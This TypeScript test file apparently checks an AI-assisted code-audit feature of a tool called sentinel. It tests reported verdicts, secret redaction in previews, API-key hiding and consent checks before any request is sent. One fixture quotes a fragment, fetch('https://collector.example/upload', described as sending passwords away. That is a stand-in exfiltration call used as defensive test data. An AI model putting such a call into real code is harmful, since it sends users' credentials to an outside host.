import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { templateValue } from '../../verifier/policy/templates.ts';
import { AuditTrial, TrialModels, TrialPreview, TrialReport } from '../../verifier/protocol/auditTrial.ts';
import { MODEL } from '../audit/openaiStandIn.ts';
import { PROVIDERS } from '../audit/providers.ts';
import { KEY } from '../audit/samples.ts';
import { type Ended, sentinel } from './sentinel.ts';

/** Stands in the made-up example that the test sends. */
const OBJECTIONABLE = {
  policy: 'data-protection',
  severity: 'high',
  verdict: 'block',
  confidence: 0.9,
  message: 'Sends passwords away.',
  remediation: 'Do not.',
  quote: "fetch('https://collector.example/upload'",
};

function run(command: string, trial: AuditTrial): Promise<Ended> {
  return sentinel(['audit', command], `${JSON.stringify(AuditTrial.parse(trial))}\n`);
}

for (const { name, url, say, next, requests, settingsFor } of PROVIDERS) {
  const audit = settingsFor(url);

  describe(`${name}: trying an auditor out`, () => {
    it('says that it answered, how long it took and what it saw, after one request about the example', async () => {
      next(say.verdict({ findings: [OBJECTIONABLE] }));
      const { code, stdout } = await run('test', { audit });
      const report = TrialReport.parse(JSON.parse(stdout));
      assert.deepEqual([code, report.state, report.objected, report.message], [0, 'ran', true, 'Sends passwords away.']);
      assert.ok(report.ms > 0);
      assert.equal(requests.length, 1);
    });

    it('says so where the model did not see what is wrong with the example', async () => {
      const { stdout } = await run('test', { audit });
      assert.deepEqual(TrialReport.parse(JSON.parse(stdout)).objected, false);
    });

    it('says why it failed and what to do', async () => {
      next(say.gone('x'));
      const { code, stdout } = await run('test', { audit });
      const report = TrialReport.parse(JSON.parse(stdout));
      assert.deepEqual([code, report.state], [1, 'unavailable']);
      assert.match(report.why ?? '', /does not know the model.*Choose another/);
    });

    it('shows a request before anything is sent, with secrets replaced, and sends nothing of one’s own text', async () => {
      const secret = templateValue('github-token') ?? assert.fail();
      const sample = { name: 'mine.py', language: 'python', text: `token = "${secret}"\nprint("mine alone")\n` };
      const { stdout } = await run('preview', { audit, sample });
      const preview = TrialPreview.parse(JSON.parse(stdout));
      assert.match(preview.user, /mine alone/);
      assert.match(preview.user, /‹redacted:/);
      assert.ok(!stdout.includes(secret));
      assert.equal(requests.length, 0);
      await run('test', { audit, sample });
      assert.equal(requests.length, 1);
      assert.ok(!requests[0]?.text.includes('mine alone'));
      assert.ok(requests[0]?.text.includes('‹redacted:'), 'the example shows what redaction does');
    });

    it('lists the models of the service', async () => {
      const listed = TrialModels.parse(JSON.parse((await run('models', { audit })).stdout));
      assert.ok('models' in listed && listed.models.includes(name === 'openai' ? MODEL : 'gemini-3.5-flash'), JSON.stringify(listed));
    });

    it('never says the key, not even where the service does', async () => {
      const wrong = settingsFor(url, { apiKey: `${KEY}-wrong` });
      next(say.verdict({ findings: [{ ...OBJECTIONABLE, message: `Key ${KEY}` }] }));
      const all = await Promise.all([run('test', { audit }), run('models', { audit: wrong }), run('preview', { audit: wrong })]);
      for (const { stdout, stderr } of all) assert.ok(!`${stdout}${stderr}`.includes(KEY));
      const listed = TrialModels.parse(JSON.parse(all[1].stdout));
      assert.match('why' in listed ? listed.why : '', /does not accept the API key|API key not valid/);
    });

    it('sends neither key nor example to an address that was not agreed to', async () => {
      const elsewhere = settingsFor(url, { consentedTo: 'https://example.org' });
      for (const command of ['test', 'models']) assert.match((await run(command, { audit: elsewhere })).stdout, /not agreed to/);
      assert.equal(requests.length, 0);
    });
  });
}

it('settings that are none are refused without repeating them', async () => {
  const ended = await sentinel(['audit', 'test'], `${JSON.stringify({ audit: { apiKey: KEY } })}\n`);
  assert.equal(ended.code, 64);
  assert.match(ended.stderr, /wrong at: audit\.provider/);
  assert.ok(!ended.stderr.includes(KEY));
});

it('`sentinel check` asks an OpenAI-compatible server where it is told to', async () => {
  const { url, requests } = PROVIDERS[1] ?? assert.fail();
  const args = ['check', '--audit-provider', 'openai', '--audit-url', url, '--audit-model', MODEL, '--command', 'ls', '--json'];
  const env = { OPENAI_API_KEY: KEY };
  const silent = await sentinel(args, '', { env });
  assert.match(silent.stdout, /--audit-consent was not given/);
  const asked = await sentinel([...args, '--audit-consent'], '', { env });
  assert.deepEqual([asked.code, requests.length], [0, 1], asked.stderr);
});
